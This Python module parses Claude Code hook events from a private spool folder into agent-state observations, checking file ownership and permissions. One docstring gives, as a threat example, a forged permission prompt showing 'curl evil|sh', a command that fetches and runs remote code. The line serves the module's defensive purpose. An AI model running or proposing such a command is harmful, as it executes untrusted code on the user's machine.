"""Reading the hook spool: the files ``program.py`` writes, one per Claude hook event.

Each file is a JSON object: Claude's event payload (``hook_event_name``,
``session_id``, ``transcript_path``, ``cwd``, ``tool_name``, ``tool_input``,
``message``, ``notification_type``, ...) plus ``tmux_pane``, ``ts`` and
``pid`` (Claude's pid) added by the program.  File names are
``<ts_ns>-<pid>-<rand>.json``, so sorting them sorts events by the time their
hook started.  Files are renamed into place whole; a name starting with ``.``
is one still being written and is never read.

Facts measured against the real Claude Code 2.1.330 (tests/e2e/test_hooks_live.py):

* every registered event fires with ``"async": true``; for a Bash command that
  needs approval: UserPromptSubmit (+0.06 s after Enter), PreToolUse (+0.19),
  PermissionRequest (+0.26, before the dialog is on screen at about +0.7),
  Notification ``permission_prompt`` ("Claude needs your permission", no tool
  named) about 6 s after the dialog appeared, PostToolUse once approved, Stop
  at the end of the turn.
* an AskUserQuestion dialog fires PreToolUse and PermissionRequest with
  ``tool_name`` ``AskUserQuestion``: a PermissionRequest is not always a
  permission dialog.
* SessionStart (``source`` ``startup``) fires as Claude starts, before its
  input box is drawn; SessionEnd (``reason`` ``prompt_input_exit``) on /exit.
* async hooks run concurrently, so a file may appear after one with a later
  name: ``SpoolReader`` remembers names rather than a high-water mark, and a
  consumer orders by ``HookEvent.ts``.
"""

from __future__ import annotations

import os
import re
import time
from collections.abc import Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from ..detect.sources import Source
from ..model import AgentState, Evidence, Observation, Option, Prompt
from ..shared.paths import runtime_dir
from ..shared.safe_files import Unreadable, is_private_dir, loads, note_once, read_with_stat

SOURCE = Source.HOOK
CONFIDENCE = 0.95
MAX_FILE = 4 << 20  # the program stores at most 1 MB of payload
CONVERSATION_ONLY = frozenset({"clear", "resume"})  # SessionEnd reasons after which the same Claude goes on


def spool_dir(env: Mapping[str, str] = os.environ) -> Path:
    """Where the hook program writes: the same rule as ``program.py``.

    ``$XDG_RUNTIME_DIR/headspace/spool`` when XDG_RUNTIME_DIR is set to an
    absolute path, else ``/tmp/headspace-<uid>/spool``.  That is the
    XDG_RUNTIME_DIR *Claude* has (its hooks inherit its environment), which
    need not be headspace's: a tmux server started without one, headspace
    run from another login.  So the monitor also watches the spool of every
    local agent whose environment says another (``spool_in`` of
    ``ClaudeProcess.runtime``), and doctor reports the split.
    """
    return spool_in(runtime_dir(env))


def spool_in(runtime: Path) -> Path:
    """The spool folder of one headspace runtime folder (``runtime_dir``)."""
    return runtime / "spool"


def _text(data: Mapping[str, Any], key: str) -> str:
    value = data.get(key)
    return value if isinstance(value, str) else ""


@dataclass(frozen=True)
class HookEvent:
    """One hook event as the spool holds it."""

    name: str  # the spool file's name; sorts by the time the hook started
    event: str  # hook_event_name: PreToolUse, Stop, ...
    session_id: str = ""
    pane_id: str = ""  # $TMUX_PANE of the Claude that fired it ("" outside tmux)
    pid: int = 0  # Claude's pid
    ts: float = 0.0  # epoch seconds
    tool_name: str = ""
    tool_input: dict[str, Any] = field(default_factory=dict, hash=False, compare=False)
    message: str = ""  # Notification's text
    notification_type: str = ""  # permission_prompt, idle_prompt, ...
    cwd: str = ""
    transcript_path: str = ""
    raw: dict[str, Any] = field(default_factory=dict, hash=False, compare=False, repr=False)

    @classmethod
    def from_record(cls, name: str, record: Mapping[str, Any]) -> HookEvent:
        pid = record.get("pid")
        ts = record.get("ts")
        if not isinstance(ts, (int, float)) or isinstance(ts, bool):
            prefix = name.split("-", 1)[0]
            ts = int(prefix) / 1e9 if prefix.isdigit() else 0.0
        tool_input = record.get("tool_input")
        return cls(
            name=name,
            event=_text(record, "hook_event_name"),
            session_id=_text(record, "session_id"),
            pane_id=_text(record, "tmux_pane"),
            pid=pid if isinstance(pid, int) and not isinstance(pid, bool) else 0,
            ts=float(ts),
            tool_name=_text(record, "tool_name"),
            tool_input=dict(tool_input) if isinstance(tool_input, dict) else {},
            message=_text(record, "message"),
            notification_type=_text(record, "notification_type"),
            cwd=_text(record, "cwd"),
            transcript_path=_text(record, "transcript_path"),
            raw=dict(record),
        )


# -- reading ------------------------------------------------------------------


def _names(folder: Path) -> list[str]:
    try:
        with os.scandir(folder) as entries:
            return sorted(e.name for e in entries if e.name.endswith(".json") and not e.name.startswith("."))
    except (FileNotFoundError, NotADirectoryError):
        return []


def _load(path: Path) -> HookEvent | None:
    """The event in ``path``, or None for a vanished, foreign, oversized or garbage file.

    Only a regular file owned by this user is read (a pipe would block, a
    link or another user's file could forge an event); a bad file is noted
    once in the log and skipped, and never stops the reader.
    """
    try:
        data, info = read_with_stat(path, MAX_FILE)
        if info.st_uid != os.getuid():
            raise Unreadable(f"{path} belongs to another user (uid {info.st_uid}); ignored")
        record = loads(data, what=str(path))
    except FileNotFoundError:
        return None
    except Unreadable as exc:
        note_once(f"hook event skipped: {exc}")
        return None
    if not isinstance(record, dict) or not isinstance(record.get("hook_event_name"), str):
        return None
    return HookEvent.from_record(path.name, record)


class SpoolRefused(Exception):
    """The spool folder is not safe to trust (another user could forge events in it)."""


def check_spool(folder: Path) -> None:
    """Raise ``SpoolRefused`` unless ``folder`` and its parent are ours alone.

    The same rule the hook program applies before writing: a real directory
    (not a link), owned by this user, not writable by group or others.  A
    folder anyone can write lets another user on a shared machine show a
    forged "permission: curl evil|sh" on your agent's row.
    """
    folder = Path(folder)
    for path in (folder.parent, folder):
        problem = is_private_dir(path)
        if problem:
            raise SpoolRefused(f"hook spool refused: {problem}; hooks are ignored until it is fixed (chmod 700, or remove it)")


def prune_spool(folder: Path, older_than: float, *, upto: str | None = None, now: float | None = None) -> int:
    """Delete spool files last modified more than ``older_than`` seconds ago.

    Only names up to ``upto`` (consumed ones) when given, plus stale ``.tmp-``
    files of a killed hook program.  Returns how many were deleted.
    """
    cutoff = (time.time() if now is None else now) - older_than
    removed = 0
    try:
        entries = list(os.scandir(folder))
    except OSError:
        return 0
    for entry in entries:
        stale_tmp = entry.name.startswith(".tmp-")
        if not stale_tmp and not (entry.name.endswith(".json") and (upto is None or entry.name <= upto)):
            continue
        try:
            if entry.stat(follow_symlinks=False).st_mtime < cutoff:
                os.unlink(entry.path)
                removed += 1
        except OSError:
            pass
    return removed


def read_spool(folder: Path, since_name: str | None = None, *, delete_older_than: float | None = None) -> list[HookEvent]:
    """Every readable event in ``folder`` whose file name sorts after ``since_name``.

    Sorted by file name.  Files that vanish, are not JSON objects or carry no
    ``hook_event_name`` are skipped.  With ``delete_older_than`` (seconds),
    files consumed by this call (or before it) older than that are deleted.
    """
    folder = Path(folder)
    events = []
    last = since_name
    for name in _names(folder):
        if since_name is not None and name <= since_name:
            continue
        last = name
        event = _load(folder / name)
        if event is not None:
            events.append(event)
    if delete_older_than is not None and last is not None:
        prune_spool(folder, delete_older_than, upto=last)
    return events


def ensure_spool(folder: Path) -> Path:
    """Create ``folder`` (and its parent) owner-only, as the hook program would; refuse an unsafe one.

    Raises ``SpoolRefused`` when either exists but is not private to us.
    """
    folder = Path(folder)
    for path in (folder.parent, folder):
        try:
            path.mkdir(mode=0o700)
        except FileExistsError:
            pass
        except OSError as exc:
            raise SpoolRefused(f"hook spool unavailable: cannot create {path}: {exc.strerror or exc}") from None
        problem = is_private_dir(path)
        if problem:
            raise SpoolRefused(f"hook spool refused: {problem}; hooks are ignored until it is fixed (chmod 700, or remove it)")
    return folder


class SpoolReader:
    """The events of one spool folder not yet handed out, each once (``folder_watch.watch_spool`` asks it).

    Names already handed out are remembered rather than a high-water mark,
    so a hook that finished late (a file whose name sorts before newer ones)
    is still reported.  Old files are pruned now and then (at most once a
    minute).
    """

    def __init__(self, folder: Path, *, since_name: str | None = None, delete_older_than: float | None = 600.0) -> None:
        self.folder = folder
        self.since_name = since_name
        self.delete_older_than = delete_older_than
        self._seen: set[str] = set()
        self._last_prune = 0.0

    def fresh(self) -> list[HookEvent]:
        names = _names(self.folder)
        self._seen.intersection_update(names)  # forget files pruned since
        events = []
        for name in names:
            if name in self._seen or (self.since_name is not None and name <= self.since_name):
                continue
            self._seen.add(name)
            event = _load(self.folder / name)
            if event is not None:
                events.append(event)
        now = time.monotonic()
        upto = max(self._seen) if self._seen else self.since_name
        keep = self.delete_older_than
        if keep is not None and upto is not None and now - self._last_prune > min(keep, 60.0):
            self._last_prune = now
            prune_spool(self.folder, keep, upto=upto)
        return events


# -- events to observations ---------------------------------------------------

_WORKING_EVENTS = frozenset({"UserPromptSubmit", "PreToolUse", "PostToolUse", "SubagentStop"})
_PERMISSION_TOOL = re.compile(r"permission to use (.+?)\.?$")


def tool_detail(tool_input: Mapping[str, Any]) -> str:
    """The command, file or URL a tool call acts on."""
    for key in ("command", "file_path", "notebook_path", "url", "path", "pattern", "query"):
        value = tool_input.get(key)
        if isinstance(value, str) and value:
            return value
    return ""


def _str_or_empty(value: Any) -> str:
    return value if isinstance(value, str) else ""


def _list(value: Any) -> list[Any]:
    return value if isinstance(value, list) else []


def _question_prompt(tool_input: Mapping[str, Any]) -> Prompt:
    questions = [q for q in _list(tool_input.get("questions")) if isinstance(q, dict)]
    first = questions[0] if questions else {}
    labels = [o.get("label") for o in _list(first.get("options")) if isinstance(o, dict)]
    return Prompt(
        kind="question",
        title=_str_or_empty(first.get("question")),
        tool="AskUserQuestion",
        # The keys that pick them are the screen's business (it adds its own rows).
        options=tuple(Option(key="", label=label) for label in labels if isinstance(label, str)),
        multi_select=bool(first.get("multiSelect")),
        question_index=1 if questions else 0,
        question_count=len(questions),
    )


def _observation(event: HookEvent, state: AgentState, text: str, prompt: Prompt | None = None) -> Observation:
    return Observation(
        state=state,
        prompt=prompt,
        evidence=(Evidence(rule=f"hook:{event.event}", line=-1, text=text),),
        source=SOURCE,
        confidence=CONFIDENCE,
    )


def hook_observation(event: HookEvent) -> Observation | None:
    """What one hook event says about its agent, or None when it says nothing.

    * PermissionRequest: ``permission`` with the tool and its detail; but
      ``question`` for AskUserQuestion and ``plan`` for ExitPlanMode, whose
      dialogs Claude also routes through a permission request.
    * Notification ``permission_prompt`` (or, without a type, a message that
      mentions permission): ``permission``; the tool comes from "... permission
      to use Bash" when the message names it.  ``idle_prompt`` ("Claude is
      waiting for your input"): ``idle``.  Other notifications (login,
      workers, MCP): None.
    * UserPromptSubmit, PreToolUse, PostToolUse, SubagentStop (the main agent
      carries on): ``working``.
    * Stop: ``idle``; a turn that ended on a plain-text question is ``input``
      only the screen can tell.
    * SessionStart: ``idle``: it fires as Claude comes up at its prompt
      (startup, resume, /clear).  Not ``starting``: a startup dialog (trust this
      folder) comes before it.  ``source`` ``compact`` happens mid-session and
      says nothing about the state: None.
    * SessionEnd: ``exited``, unless its ``reason`` is ``clear`` or ``resume``
      (a new conversation in the same Claude): None.
    """
    name = event.event
    if name == "PermissionRequest":
        detail = tool_detail(event.tool_input)
        text = f"{event.tool_name}: {detail}" if detail else event.tool_name
        if event.tool_name == "AskUserQuestion":
            return _observation(event, AgentState.QUESTION, text, _question_prompt(event.tool_input))
        if event.tool_name == "ExitPlanMode":
            return _observation(event, AgentState.PLAN, text, Prompt(kind="plan", tool="ExitPlanMode"))
        prompt = Prompt(kind="permission", title="Do you want to proceed?", tool=event.tool_name, detail=detail)
        return _observation(event, AgentState.PERMISSION, text, prompt)
    if name == "Notification":
        kind = event.notification_type
        message = event.message
        if kind == "permission_prompt" or (not kind and "permission" in message.lower()):
            match = _PERMISSION_TOOL.search(message)
            prompt = Prompt(kind="permission", tool=match.group(1) if match else "")
            return _observation(event, AgentState.PERMISSION, message, prompt)
        if kind == "idle_prompt" or (not kind and "waiting for your input" in message.lower()):
            return _observation(event, AgentState.IDLE, message)
        return None
    if name in _WORKING_EVENTS:
        text = _text(event.raw, "prompt") if name == "UserPromptSubmit" else event.tool_name
        return _observation(event, AgentState.WORKING, text[:200])
    if name == "Stop":
        return _observation(event, AgentState.IDLE, _text(event.raw, "last_assistant_message")[:200])
    if name == "SessionStart":
        source = _text(event.raw, "source")
        return None if source == "compact" else _observation(event, AgentState.IDLE, source)
    if name == "SessionEnd":
        reason = _text(event.raw, "reason")
        # /clear ends a conversation, not Claude: a SessionStart ("clear") follows at its prompt.
        return None if reason in CONVERSATION_ONLY else _observation(event, AgentState.EXITED, reason)
    return None
